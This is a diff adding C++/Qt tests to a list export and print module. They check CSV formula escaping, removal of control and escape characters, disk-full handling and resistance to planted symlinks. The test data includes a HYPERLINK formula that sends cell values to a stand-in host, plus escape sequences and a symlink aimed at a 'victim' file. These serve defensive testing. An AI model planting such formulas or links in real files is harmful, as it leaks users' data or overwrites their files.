@@ -9,26 +9,37 @@
 #include "listcmd/Comlin.h"
 #include "listcmd/Griglia.h"
 #include "print/OpzioniStampa.h"
+#include "print/Pdf.h"
 #include "print/ScritturaFile.h"
 #include "print/Stampa.h"
 #include "suite/Errore.h"
+#include "suite/Messaggi.h"
 #include "suite/StampaAttiva.h"
 #include "support/MotoriProva.h"
 #include "utility/Utilita.h"
 
+#include <QDir>
 #include <QFile>
+#include <QFileInfo>
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QJsonObject>
 #include <QLineEdit>
 #include <QLocale>
 #include <QProcess>
+#include <QSet>
 #include <QSqlError>
 #include <QSqlQuery>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QToolBar>
 #include <QVBoxLayout>
+
+#include <latch>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <thread>
+#include <unistd.h>
 
 using namespace quarvel;
 using namespace quarvel::stampa;
@@ -134,6 +145,17 @@ private Q_SLOTS:
     void sequenzeControllo();
     void interrotta();
     void fileNonScrivibile();
+    void formuleFoglio_data();
+    void formuleFoglio();
+    void fissaSenzaControlli();
+    void xlsxDate();
+    void discoPieno_data();
+    void discoPieno();
+    void portaPiena();
+    void pdfNomiPiantati();
+    void pdfStessoNomeInsieme();
+    void messaggioFileScritto_data();
+    void messaggioFileScritto();
     void listaReale();
 
 private:
@@ -356,6 +378,368 @@ void TstFileStampa::fileNonScrivibile() {
     }
 }
 
+void TstFileStampa::formuleFoglio_data() {
+    QTest::addColumn<int>("formato");
+    QTest::addColumn<QString>("descrizione");
+    QTest::addColumn<QString>("attesa");
+    const QString link = "=HYPERLINK(\"http://x.example/?\"&A2&B2;\"Dettagli\")";
+    QTest::newRow("uguale") << 0 << link << "'" + link;
+    QTest::newRow("più") << 0 << "+1+2"
+                         << "'+1+2";
+    QTest::newRow("meno in un testo") << 0 << "-2+3"
+                                      << "'-2+3";
+    QTest::newRow("chiocciola") << 0 << "@SUM(A1:A9)"
+                                << "'@SUM(A1:A9)";
+    QTest::newRow("dopo un tab") << 0 << "\t=1+1"
+                                 << "'\t=1+1";
+    QTest::newRow("dopo un ritorno") << 0 << "\r\n=1+1"
+                                     << "'\r\n=1+1";
+    QTest::newRow("dopo spazi") << 0 << "  =1+1"
+                                << "'  =1+1";
+    QTest::newRow("segno dentro il testo") << 0 << "Vite M8 = 10 mm"
+                                           << "Vite M8 = 10 mm";
+    QTest::newRow("testo normale") << 0 << "Dado"
+                                   << "Dado";
+    // the plain text kind is no spreadsheet's: the text as it is
+    QTest::newRow("formato testo") << 1 << link << link;
+}
+
+void TstFileStampa::formuleFoglio() {
+    // A text a spreadsheet would run as a formula keeps an apostrophe in
+    // front; the number column keeps its numbers, a negative one too.
+    PROVA_SOLO_PRIMO_MOTORE();
+    QFETCH(int, formato);
+    QFETCH(QString, descrizione);
+    QFETCH(QString, attesa);
+    ListaMemoria l;
+    l.colonne_ = {Col("Descrizione", 2400, Tipo::Testo), Col("Qta", 1200, Tipo::Doppio)};
+    l.righe_ = {Riga({descrizione, -12.5}, {descrizione, "-12,5"})};
+    OpzioniStampa o(QStringLiteral("Prova"));
+    o.oiFileForm = qint16(formato);
+    o.osSepCampi = ";";
+    o.osDelimStr = "\"";
+    o.obNumNoForm = true;
+    const QString file = File(QStringLiteral("formule.csv"));
+    QCOMPARE(ScriviDelimitato(l, {0, 1}, o, file), qint64(1));
+    const QList<QStringList> righe = RigheTesto(Leggi({"csv", file, ";", "\""}));
+    QCOMPARE(righe.size(), 2);
+    QCOMPARE(righe[1], (QStringList{attesa, "-12,5"}));
+}
+
+void TstFileStampa::fissaSenzaControlli() {
+    // Line ends, form feeds, escape sequences and the other control
+    // characters of a text become blanks: each row stays one line of the
+    // page, and nothing of a text reaches the printer as a command.
+    PROVA_SOLO_PRIMO_MOTORE();
+    ListaMemoria l;
+    l.colonne_ = {Col("Cod", 600, Tipo::Testo), Col("Descrizione", 2400, Tipo::Testo)};
+    const QString sporca = QString::fromLatin1("a\rb\nc\fd\x1b[2Je\x07\x7f") + QChar(0x9b) + "f";
+    l.righe_ = {Riga({"\x1b"
+                      "E",
+                      sporca},
+                     {"\x1b"
+                      "E",
+                      sporca}),
+                Riga({"Z", "fine"}, {"Z", "fine"})};
+    OpzioniStampa o(QStringLiteral("Prova"));
+    o.oiFisColonne = 80;
+    o.oiFisRighe = 20;
+    o.oiFisMrAlt = 0;
+    o.oiFisMrBas = 0;
+    const QString file = File(QStringLiteral("controlli.txt"));
+    QCOMPARE(ScriviFissa(l, {0, 1}, o, file), qint64(2));
+    const QByteArray b = Contenuto(file);
+    QCOMPARE(b, QByteArray("Cod   Descrizione\r\n"
+                           " E    a b c d [2Je   f\r\n"
+                           "Z     fine\r\n"
+                           "\f"));
+}
+
+void TstFileStampa::xlsxDate() {
+    // A date column whose values come as the database's text is written as
+    // dates, in the format of the list's column.
+    PROVA_SOLO_PRIMO_MOTORE();
+    ListaMemoria l;
+    l.colonne_ = {Col("Cod", 1200, Tipo::Testo), Col("Giorno", 1440, Tipo::Data, "dd/MM/yyyy"),
+                  Col("Ora", 2000, Tipo::Data)};
+    l.righe_ = {Riga({"A1", "2024-03-05", "2024-03-05 10:30:00"},
+                     {"A1", "05/03/2024", "05/03/2024 10:30:00"}),
+                Riga({"A2", QDate(2024, 12, 31), QDateTime(QDate(2025, 1, 2), QTime(8, 0))},
+                     {"A2", "31/12/2024", "02/01/2025 08:00:00"})};
+    OpzioniStampa o(QStringLiteral("Prova"));
+    const QString file = File(QStringLiteral("date.xlsx"));
+    QCOMPARE(ScriviXlsx(l, {0, 1, 2}, o, file, "Date"), qint64(2));
+    const QJsonObject x = Leggi({"xlsx", file});
+    const QJsonArray righe = x.value("righe").toArray();
+    QCOMPARE(righe.size(), 3);
+    for (int r = 1; r <= 2; ++r)
+        for (int c = 1; c <= 2; ++c) {
+            QCOMPARE(x.value("tipi").toArray()[r].toArray()[c].toString(), QString("datetime"));
+            QCOMPARE(x.value("formati").toArray()[r].toArray()[1].toString(),
+                     QString("dd/mm/yyyy"));
+        }
+    QCOMPARE(righe[1].toArray()[1].toString(), QString("2024-03-05"));
+    QCOMPARE(righe[2].toArray()[2].toString(), QString("2025-01-02"));
+}
+
+namespace {
+
+// A file system of 64 KiB mounted on a folder, for as long as it lives
+// (root only).
+class DiscoPiccolo {
+public:
+    explicit DiscoPiccolo(const QString& cartella) : m_cartella(cartella) {
+        QDir().mkpath(cartella);
+        m_montato =
+            QProcess::execute("mount", {"-t", "tmpfs", "-o", "size=64k", "tmpfs", cartella}) == 0;
+    }
+    ~DiscoPiccolo() {
+        if (m_montato)
+            QProcess::execute(
+                "umount", {"-l", m_cartella}); // libxlsxwriter may keep a file open after a failure
+    }
+    bool montato() const { return m_montato; }
+
+private:
+    QString m_cartella;
+    bool m_montato = false;
+};
+
+} // namespace
+
+void TstFileStampa::discoPieno_data() {
+    QTest::addColumn<int>("dest");
+    QTest::addColumn<int>("formato");
+    QTest::newRow("compatibile excel")
+        << int(DestStampa::File) << int(FormatoFile::CompatibileExcel);
+    QTest::newRow("testo") << int(DestStampa::File) << int(FormatoFile::Testo);
+    QTest::newRow("xlsx") << int(DestStampa::File) << int(FormatoFile::Excel);
+    QTest::newRow("lunghezza fissa") << int(DestStampa::Fissa) << 0;
+}
+
+void TstFileStampa::discoPieno() {
+    // An export that does not fit on the disk: the error names the file and
+    // the cause, no rows are reported written, the file of that name from
+    // before is as it was, and no half-written file is left.
+    PROVA_SOLO_PRIMO_MOTORE();
+    QFETCH(int, dest);
+    QFETCH(int, formato);
+    if (::geteuid() != 0)
+        QSKIP("a small file system is mounted by root only");
+    const QString cartella = File(QStringLiteral("disco-%1-%2").arg(dest).arg(formato));
+    DiscoPiccolo disco(cartella);
+    if (!disco.montato())
+        QSKIP("no tmpfs can be mounted here");
+    const QString file = cartella + "/lista.out";
+    {
+        QFile f(file);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write("il file di prima\n");
+    }
+    ListaMemoria l;
+    l.colonne_ = {Col("Cod", 1200, Tipo::Testo), Col("Descrizione", 9000, Tipo::Testo),
+                  Col("Qta", 1200, Tipo::Doppio)};
+    for (int i = 0; i < 3000; ++i) {
+        // texts of random letters: the workbook's compression cannot make them fit
+        QString t;
+        for (int k = 0; k < 60; ++k)
+            t += QChar('a' + int((i * 7919u + k * 104729u) % 26));
+        l.righe_ << Riga({QString::number(i), t, i * 1.5}, {QString::number(i), t, ""});
+    }
+    MessaggiScriptati msg;
+    Stampa s;
+    OpzioniStampa o(QStringLiteral("Prova"));
+    s.setOgOpzSta(&o);
+    o.oiStaVid = qint16(dest);
+    o.oiFileForm = qint16(formato);
+    o.osFileName = file;
+    o.osFisFileName = file;
+    o.oiFisColonne = 200;
+    RichiestaStampaLista r;
+    r.colonne = "T";
+    r.titolo = "Lista";
+    try {
+        s.StampaLista(l, r);
+        QFAIL("the export did not fit and was reported written");
+    } catch (const Errore& e) {
+        QVERIFY2(e.descrizione().contains(file), qPrintable(e.descrizione()));
+        QVERIFY2(e.descrizione().contains("il disco è pieno"), qPrintable(e.descrizione()));
+    }
+    for (const QString& t : msg.testi())
+        QVERIFY2(!t.contains("righe"), qPrintable(t));
+    QCOMPARE(Contenuto(file), QByteArray("il file di prima\n"));
+    QCOMPARE(QDir(cartella).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
+             QStringList{"lista.out"});
+}
+
+void TstFileStampa::portaPiena() {
+    // A device that takes no more (the system's "full" device standing in
+    // for a printer port, written directly): the error says why, no success,
+    // and the device is still a device.  As root the device is a node of
+    // the test's own, so nothing of the system is at stake.
+    PROVA_SOLO_PRIMO_MOTORE();
+    QString porta = QStringLiteral("/dev/full");
+    if (::geteuid() == 0) {
+        porta = File(QStringLiteral("porta-piena"));
+        QFile::remove(porta);
+        QCOMPARE(::mknod(QFile::encodeName(porta).constData(), S_IFCHR | 0666, makedev(1, 7)), 0);
+    }
+    if (!QFileInfo(porta).isWritable())
+        QSKIP("no full device here");
+    ListaMemoria l = Esempio();
+    for (int i = 0; i < 3000; ++i)
+        l.righe_ << l.righe_[i % 3];
+    MessaggiScriptati msg;
+    Stampa s;
+    OpzioniStampa o(QStringLiteral("Prova"));
+    s.setOgOpzSta(&o);
+    o.oiStaVid = DestStampa::Fissa;
+    o.obFisStampante = true;
+    o.osFisFileName = porta;
+    RichiestaStampaLista r;
+    r.colonne = "T";
+    try {
+        s.StampaLista(l, r);
+        QFAIL("a print to a full device was reported done");
+    } catch (const Errore& e) {
+        QCOMPARE(e.descrizione(),
+                 "Impossibile scrivere il file di stampa " + porta + ": il disco è pieno");
+    }
+    QVERIFY(msg.testi().isEmpty());
+    struct stat st;
+    QCOMPARE(::stat(QFile::encodeName(porta).constData(), &st), 0);
+    QVERIFY(S_ISCHR(st.st_mode));
+}
+
+void TstFileStampa::pdfNomiPiantati() {
+    // Links planted under the names a PDF is written through or to: the
+    // files they point at stay as they were, the links stay, and the PDF is
+    // a file of its own under a free name.
+    PROVA_SOLO_PRIMO_MOTORE();
+    QTemporaryDir dir;
+    const QString vittima = dir.filePath("vittima");
+    {
+        QFile f(vittima);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write("segreto");
+    }
+    const QString assente = dir.filePath("assente");
+    const QString file = dir.filePath("Lista.pdf");
+    QVERIFY(QFile::link(vittima, file + ".part"));
+    ListaMemoria l = Esempio();
+    OpzioniStampa o(QStringLiteral("Prova"));
+    RichiestaStampaLista r;
+    r.titolo = "Lista";
+    QString scritto;
+    QVERIFY(ScriviPdf(l, {0, 1}, r, o, file, 1, 0, {}, &scritto) >= 1);
+    QCOMPARE(scritto, file);
+    QVERIFY(!QFileInfo(file).isSymLink());
+    QVERIFY(Contenuto(file).startsWith("%PDF-"));
+    QCOMPARE(Contenuto(vittima), QByteArray("segreto"));
+    QVERIFY(QFileInfo(file + ".part").isSymLink());
+
+    // a link to nothing under the name itself: the name is taken
+    const QString altro = dir.filePath("Altra.pdf");
+    QVERIFY(QFile::link(assente, altro));
+    const QString nome = NomeFilePdf(dir.filePath("Altra"), "x", QDateTime::currentDateTime());
+    QCOMPARE(nome, dir.filePath("Altra (2).pdf"));
+    // and when it is planted after the name was chosen, the PDF still goes
+    // under another name
+    QVERIFY(ScriviPdf(l, {0, 1}, r, o, altro, 1, 0, {}, &scritto) >= 1);
+    QCOMPARE(scritto, nome);
+    QVERIFY(QFileInfo(altro).isSymLink());
+    QVERIFY(!QFileInfo::exists(assente));
+    QVERIFY(Contenuto(scritto).startsWith("%PDF-"));
+    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden | QDir::System),
+             (QStringList{"Altra (2).pdf", "Altra.pdf", "Lista.pdf", "Lista.pdf.part", "vittima"}));
+}
+
+void TstFileStampa::pdfStessoNomeInsieme() {
+    // Two prints to the same name at the same moment: each ends with its own
+    // whole file, under the name or the next free one.
+    PROVA_SOLO_PRIMO_MOTORE();
+    QTemporaryDir dir;
+    const QString file = dir.filePath("Insieme.pdf");
+    std::latch insieme(2);
+    QString scritti[2];
+    QString errori[2];
+    auto stampa = [&](int i) {
+        ListaMemoria l = Esempio();
+        while (l.righe_.size() < 300)
+            l.righe_ << l.righe_[l.righe_.size() % 3];
+        OpzioniStampa o(QStringLiteral("Prova"));
+        RichiestaStampaLista r;
+        r.titolo = "Insieme";
+        try {
+            ScriviPdf(
+                l, {0, 1, 2}, r, o, file, 1, 0,
+                [&](int pagina) {
+                    if (pagina == 2)
+                        insieme.arrive_and_wait(); // both half-way
+                    return true;
+                },
+                &scritti[i]);
+        } catch (const Errore& e) {
+            errori[i] = e.descrizione();
+        }
+    };
+    std::thread a(stampa, 0), b(stampa, 1);
+    a.join();
+    b.join();
+    QVERIFY2(errori[0].isEmpty() && errori[1].isEmpty(), qPrintable(errori[0] + errori[1]));
+    QCOMPARE(QSet<QString>({scritti[0], scritti[1]}),
+             QSet<QString>({file, dir.filePath("Insieme (2).pdf")}));
+    for (const QString& s : scritti) {
+        const QByteArray b = Contenuto(s);
+        QVERIFY(b.startsWith("%PDF-"));
+        QVERIFY(b.trimmed().endsWith("%%EOF"));
+    }
+    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden).size(), 2);
+}
+
+void TstFileStampa::messaggioFileScritto_data() {
+    QTest::addColumn<int>("formato");
+    QTest::addColumn<QString>("nome");
+    QTest::addColumn<QString>("attesa");
+    QTest::newRow("compatibile excel") << int(FormatoFile::CompatibileExcel) << "lista.csv"
+                                       << "File %1 scritto: 3 righe";
+    QTest::newRow("xlsx") << int(FormatoFile::Excel) << "lista.xlsx"
+                          << "File %1 scritto: 3 righe";
+    QTest::newRow("pdf") << -1 << "Lista"
+                         << "File %1.pdf scritto: 3 righe in 1 pagine";
+}
+
+void TstFileStampa::messaggioFileScritto() {
+    // After the file is written the clerk is told where it is and how many
+    // rows it holds.
+    PROVA_SOLO_PRIMO_MOTORE();
+    QFETCH(int, formato);
+    QFETCH(QString, nome);
+    QFETCH(QString, attesa);
+    QTemporaryDir dir;
+    const QString file = dir.filePath(nome);
+    MessaggiScriptati msg;
+    ListaMemoria l = Esempio();
+    Stampa s;
+    OpzioniStampa o(QStringLiteral("Prova"));
+    s.setOgOpzSta(&o);
+    if (formato < 0) {
+        o.oiStaVid = DestStampa::Stampante;
+        o.setValore(QStringLiteral("PdfAutomAbil"), true);
+        o.setValore(QStringLiteral("PdfNomeFile"), file);
+    } else {
+        o.oiStaVid = DestStampa::File;
+        o.oiFileForm = qint16(formato);
+        o.osFileName = file;
+    }
+    RichiestaStampaLista r;
+    r.colonne = "V";
+    r.titolo = "Lista";
+    s.StampaLista(l, r);
+    QCOMPARE(msg.testi(), QStringList{attesa.arg(file)});
+    QCOMPARE(msg.mostrati().front().stile, int(vbInformation));
+}
+
 void TstFileStampa::listaReale() {
     // The grid's list of a real database printed to delimited text and to a
     // workbook by the print object; every row read back equals the row of
@@ -453,6 +837,19 @@ void TstFileStampa::listaReale() {
         else
             QCOMPARE(x[2].toDouble(), attese[i].valori[2].toDouble());
     }
+
+    // every column: the dates of the database (text in SQLite, dates in
+    // PostgreSQL) are date cells
+    r.colonne = QStringLiteral("T");
+    o.osFileName = File("reale-date.xlsx");
+    QCOMPARE(s.StampaLista(*lista, r), qint64(n));
+    const QJsonObject conDate = Leggi({"xlsx", o.osFileName});
+    QCOMPARE(conDate.value("tipi").toArray()[1].toArray()[3].toString(), QString("datetime"));
+    QCOMPARE(conDate.value("righe").toArray()[1].toArray()[3].toString(),
+             attese[0].valori[3].toDate().isValid()
+                 ? attese[0].valori[3].toDate().toString(Qt::ISODate)
+                 : attese[0].valori[3].toString().left(10));
+    r.colonne = QStringLiteral("V");
 
     // no file name: refused before anything is written
     o.osFileName.clear();
